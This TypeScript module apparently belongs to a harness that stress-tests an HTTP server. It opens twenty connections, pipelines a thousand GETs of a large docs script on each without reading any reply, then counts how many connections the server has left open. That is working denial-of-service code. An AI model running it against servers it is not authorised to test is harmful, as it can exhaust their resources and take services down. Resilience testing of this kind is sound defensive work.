/** Pipelines of requests for a large file, on connections that read no reply. */
import { setTimeout } from 'node:timers/promises';
import type { Attack } from '../attack';
import { openSilent } from '../sending';

const CONNECTIONS = 20;
const REQUESTS = 1000;
/** How long they stay, in milliseconds. */
const STAY = 5000;

const REQUEST = 'GET /v1/docs/swagger-ui-bundle.js HTTP/1.1\r\nHost: a\r\n\r\n';

export const pipelines: Attack = {
  name: 'pipelines',
  title: `${CONNECTIONS} connections with ${REQUESTS.toLocaleString('en')} pipelined GETs of the docs' script each, never read`,
  run: async ({ url }) => {
    const sockets = await Promise.all(Array.from({ length: CONNECTIONS }, () => openSilent(url)));
    for (const socket of sockets) socket.write(REQUEST.repeat(REQUESTS));
    await setTimeout(STAY);
    const left = sockets.filter(({ closed }) => !closed).length;
    for (const socket of sockets) socket.destroy();
    return `${left} connections left`;
  },
};
